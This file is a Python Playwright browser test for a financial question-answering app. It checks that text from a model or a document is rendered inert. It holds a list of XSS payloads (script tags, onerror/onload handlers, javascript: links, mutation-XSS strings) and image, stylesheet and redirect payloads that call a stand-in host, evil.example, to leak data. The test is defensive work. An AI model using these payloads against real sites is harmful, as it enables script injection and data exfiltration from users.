"""Whatever a model or a document says, is shown as words: no script runs, nothing is fetched."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect

from tests.browser.conftest import Visit

pytestmark = pytest.mark.browser
RUN = "document.title='owned'"
PAYLOADS = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<a href=javascript:{RUN}>click</a>",
    f"[click](javascript:{RUN})", "[click](data:text/html,<script>alert(1)</script>)", "[click](vbscript:msgbox)",
    "![pixel](https://evil.example/a.png?q=secret)", "![pixel][ref]\n\n[ref]: https://evil.example/b.png",
    "<https://evil.example/auto>", "https://evil.example/bare", "[click](//evil.example/slashes)",
    "<link rel=stylesheet href=https://evil.example/s.css>", "<style>@import 'https://evil.example/t.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>go</button></form>", "<object data=https://evil.example/o></object>",
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}>", f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<video><source onerror={RUN}></video>", f"\"><script>{RUN}</script>",
    f"`<script>{RUN}</script>`", f"**<img src=x onerror={RUN}>**", f"- <img src=x onerror={RUN}>",
    f"# <script>{RUN}</script>", f"[1]<script>{RUN}</script>[2](javascript:{RUN})", "\u202e<script>\u202c",
    "&lt;script&gt;",
)  # fmt: skip


def hostile(text: str) -> dict[str, Any]:
    """An answer with the payload in every place that a model or a document has a say in."""
    place = {
        "n": 1, "document_id": f"../../x?{text}", "title": text, "issuer": text, "page": 1, "span": [0, 5],
        "quote": text, "found": "exact", "state": text, "published": None,
    }  # fmt: skip
    return {
        "run_id": text, "status": "answered", "question": text, "answer": f"{text} [1].\n\n{text}",
        "citations": [place],
        "figures": [{"text": text, "basis": "computed", "formula": text, "inputs": [text]}], "scope": {}, "as_of": None,
        "conversation": None, "table": {"columns": [text, text], "rows": [[text, text]], "sources": [[1, 1]]},
        "chart": {"title": text, "unit": text, "points": [[text, 1], [text, 2], [text, 3]]},
        "view": {"issuer": text, "ticker": text, "rating": text, "price_target": text, "currency": text, "date": None,
                 "publisher": text, "superseded": text,
                 "others": [{"publisher": text, "rating": text, "price_target": text, "currency": text, "date": None}]},
        "missing": text, "nearest": [place], "followups": [text], "refusal": {"instead": text}, "notes": [text],
        "draft": {"approval_id": text, "tool": text, "arguments": {text: text, "body": text}}, "disclaimer": text,
    }  # fmt: skip


def told(answer: dict[str, Any]) -> str:
    scope = {"issuers": [answer["question"]], "tickers": [answer["question"]], "periods": [answer["question"]]}
    parts = [
        {"type": "start", "messageId": "m"},
        {"type": "data-status", "data": {"name": "x", "text": answer["question"]}},
        {"type": "data-scope", "data": scope},
        {"type": "data-sources", "data": answer["citations"]},
        {"type": "text-delta", "id": "answer", "delta": answer["answer"]},
        {"type": "data-answer", "data": answer},
    ]
    return "".join(f"data: {json.dumps(part)}\n\n" for part in parts) + "data: [DONE]\n\n"


def ask(page: Page, at: int, text: str) -> None:
    page.get_by_label("Question", exact=True).fill(text)
    page.keyboard.press("Enter")
    expect(page.locator("article.turn").nth(at)).to_have_attribute("data-status", "answered")


def test_whatever_is_said_is_shown_as_words(visit: Visit) -> None:
    page = visit.open()

    def answer(route: Route) -> None:
        question = json.loads(route.request.post_data or "{}")["question"]
        route.fulfill(content_type="text/event-stream", body=told(hostile(question)))

    page.route("**/v1/ask", answer)
    for at, payload in enumerate(PAYLOADS):
        ask(page, at, payload)
    turns = page.locator("#turns")
    forbidden = "script, iframe, object, embed, link, style, meta, base, form, img, video, math, [onerror], [onload]"
    assert turns.locator(forbidden).count() == 0
    addresses = turns.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert addresses
    assert all(address.startswith(("blob:", "#")) for address in addresses), addresses
    handlers = "all => all.flatMap(one => [...one.attributes]).filter(a => a.name.startsWith('on')).length"
    assert turns.locator("*").evaluate_all(handlers) == 0
    expect(turns).to_contain_text(PAYLOADS[0])
    assert page.title() == "Ask · Wealthdesk"
